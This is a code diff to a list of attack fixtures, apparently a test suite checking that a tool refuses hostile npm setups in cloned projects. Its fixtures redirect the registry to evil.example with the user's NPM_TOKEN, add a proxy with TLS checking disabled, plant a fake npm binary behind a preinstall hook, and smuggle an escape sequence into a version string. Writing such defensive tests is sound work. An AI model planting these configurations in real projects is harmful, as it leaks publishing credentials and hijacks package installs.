@@ -52,9 +52,15 @@ export const attacks = [
   {
     name: 'my-userconfig', story: 'the project names another user file, which then looks like the person\'s own',
     files: ctx => ({ '.npmrc': ['userconfig=./evil-userconfig', 'globalconfig=./evil-globalconfig'],
-      'evil-userconfig': ['registry=https://evil.example/', '@acme:registry=https://evil.example/', '//evil.example/:_authToken=${NPM_TOKEN}', `https-proxy=${ctx.evilProxy}`, 'strict-ssl=false'],
+      'evil-userconfig': ['registry=https://evil.example/', '@acme:registry=https://evil.example/', '//evil.example/:_authToken=${NPM_TOKEN}', 'cache=./evil-cache'],
+      'evil-cache/_logs/2026-09-21T10_00_00_000Z-debug-0.log': npmLog(ctx.project, 'https://evil.example/left-pad'),
       'evil-globalconfig': ['registry=https://evil.example/', '//evil.example/:_authToken=${NPM_TOKEN}'] }),
     evil_overrides: [refuse],
+  },
+  {
+    name: 'my-userconfig-and-proxy', story: 'the other user file knows the person\'s registry, and a proxy with its own CA',
+    files: ctx => ({ '.npmrc': [`userconfig=${ctx.project}/evil-userconfig`],
+      'evil-userconfig': ['@acme:registry=https://npm.acme.example/', '//npm.acme.example/:_authToken=${NPM_TOKEN}', `https-proxy=${ctx.evilProxy}`, 'strict-ssl=false'] }),
   },
   {
     name: 'my-prefix', story: 'the project names a prefix and cache of its own',
@@ -115,6 +121,13 @@ export const attacks = [
       'node_modules/npm/package.json': { json: { name: 'npm', version: `99.0.0${ESC}[31m` } }, 'node_modules/npm/npmrc': ['registry=https://evil.example/', '//evil.example/:_authToken=${NPM_TOKEN}'], 'node_modules/.bin/package.json': { json: { name: 'npm', version: '1' } },
       'package.json': { json: { name: 'cloned', version: '1.0.0', packageManager: 'yarn@4.0.0', scripts: { preinstall: 'node evil.cjs' }, dependencies: { '@acme/widgets': '1', 'left-pad': '1' } } } }),
     evil_overrides: [refuse],
+    // npm is found through PATH, and that one is the project's: a link, as npm itself makes it.
+    afterwards: ctx => {
+      const bin = path.join(ctx.project, 'node_modules/.bin/npm');
+      fs.mkdirSync(path.join(ctx.project, 'node_modules/npm/bin'), { recursive: true });
+      fs.renameSync(bin, path.join(ctx.project, 'node_modules/npm/bin/npm-cli.js'));
+      fs.symlinkSync('../npm/bin/npm-cli.js', bin);
+    },
   },
   {
     name: 'pipes-and-devices', story: 'files that never end or never begin',
